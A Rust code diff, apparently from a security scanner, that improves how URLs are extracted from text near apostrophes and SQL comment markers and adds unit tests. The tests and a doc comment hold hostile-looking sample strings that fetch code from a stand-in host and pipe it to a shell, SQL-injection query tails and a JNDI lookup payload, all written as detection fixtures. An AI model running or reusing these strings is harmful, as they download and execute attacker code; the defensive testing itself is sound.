@@ -2,6 +2,7 @@
 
 use std::borrow::Cow;
 use std::net::{IpAddr, Ipv4Addr};
+use std::ops::Range;
 
 use crate::{address, domain, text};
 
@@ -152,16 +153,19 @@ pub(crate) fn all(text: &str) -> impl Iterator<Item = &str> {
     let mut from = 0;
     let mut end = 0;
     let mut inside = 0;
+    let (mut quoted, mut looked) = (false, 0);
     std::iter::from_fn(move || {
         loop {
             let at = from + text[from..].find("://")?;
+            quoted = leaves_open(text, looked..at, quoted);
+            looked = at;
             let scheme = text[from..at].bytes().rev().take_while(u8::is_ascii_alphabetic).count();
             from = at + 3;
             if at < end {
                 inside += 1;
             } else {
                 inside = 0;
-                end = at + end_of(&text[at..], text[..at - scheme].ends_with('\''));
+                end = at + end_of(&text[at..], quoted || text[..at - scheme].ends_with('\''));
             }
             let url = &text[at - scheme..end];
             let scheme = &url[..scheme];
@@ -172,7 +176,18 @@ pub(crate) fn all(text: &str) -> impl Iterator<Item = &str> {
     })
 }
 
-/// Length of what starts with `://` and belongs to a URL, as people say where one ends. One that an apostrophe stands before ends at the
+/// Says whether an apostrophe is open behind a piece of a text, given whether one was before it. Inside of a word (`it's`) it opens none.
+fn leaves_open(text: &str, piece: Range<usize>, mut open: bool) -> bool {
+    for (at, _) in text[piece.clone()].match_indices('\'') {
+        let at = piece.start + at;
+        let before = text[..at].ends_with(char::is_alphanumeric);
+        let after = text[at + 1..].starts_with(char::is_alphanumeric);
+        open = if before && after { open } else { !open };
+    }
+    open
+}
+
+/// Length of what starts with `://` and belongs to a URL, as people say where one ends. One that stands inside of apostrophes ends at the
 /// next; in any other it is a letter like others where the URL goes on behind it, since what is cut there is another URL.
 fn end_of(text: &str, quoted: bool) -> usize {
     let mut ends = text.match_indices(ends);
@@ -188,7 +203,9 @@ fn end_of(text: &str, quoted: bool) -> usize {
 }
 
 fn goes_on(after: &str) -> bool {
-    after.starts_with(|c: char| c.is_alphanumeric() || matches!(c, '%' | '/' | '_' | '-' | '.' | '~'))
+    // A comment of SQL, whose text the apostrophe ended.
+    let is_comment = after.starts_with("--") || after.starts_with("/*");
+    !is_comment && after.starts_with(|c: char| c.is_alphanumeric() || matches!(c, '%' | '/' | '_' | '-' | '~'))
 }
 
 /// Finds the places that look-ups lead to, whatever they put before `://` and behind a loopback: `${jndi:${lower:l}dap://evil.example/a}`,
@@ -273,9 +290,15 @@ pub(crate) fn decoded(text: &str) -> Cow<'_, str> {
 /// Writes a path and a query with escapes only where they are needed, in capital letters.
 fn escaped_once(tail: &str, out: &mut String) {
     let mut rest = tail;
-    while let Some(at) = rest.find('%') {
+    while let Some(at) = rest.find(['%', '\'']) {
         out.push_str(&rest[..at]);
         rest = &rest[at..];
+        // Programs that show URLs to people take it for the end of one.
+        if let Some(after) = rest.strip_prefix('\'') {
+            out.push_str("%27");
+            rest = after;
+            continue;
+        }
         let Some(byte) = escape(rest.as_bytes()) else {
             out.push('%');
             rest = &rest[1..];
@@ -366,6 +389,17 @@ mod tests {
             ("wget http://evil.example/b' | sh", "http://evil.example/b"),
             ("'x http://evil.example/b'+'c'", "http://evil.example/b"),
             ("('http://evil.example/b','c')", "http://evil.example/b"),
+            ("/a?x=http://evil.example/shell.txt'--", "http://evil.example/shell.txt"),
+            (
+                "/a?x=http://evil.example/shell.txt'/**/or",
+                "http://evil.example/shell.txt",
+            ),
+            (
+                "iex ('curl http://evil.example/a.exe'.Replace('x','y'))",
+                "http://evil.example/a.exe",
+            ),
+            ("sh -c 'it''s; curl http://evil.example/a'_b", "http://evil.example/a"),
+            ("it's here: http://evil.example/b'c", "http://evil.example/b'c"),
         ] {
             assert_eq!(all(text).collect::<Vec<_>>(), [expected], "{text}");
         }
@@ -430,6 +464,10 @@ mod tests {
             (
                 "http://[2001:db8::1]:8080/x",
                 &["http://[2001:db8:0:0:0:0:0:1]:8080/x", "http://[2001:DB8::0001]:8080/x"],
+            ),
+            (
+                "http://evil.example/b%27c",
+                &["http://evil.example/b'c", "http://evil.example/b%27c"],
             ),
             ("http://u:p@evil.example/", &["http://u:p@evil.example"]),
             ("http://u;x@evil.example/", &["http://u;x@evil.example/"]),
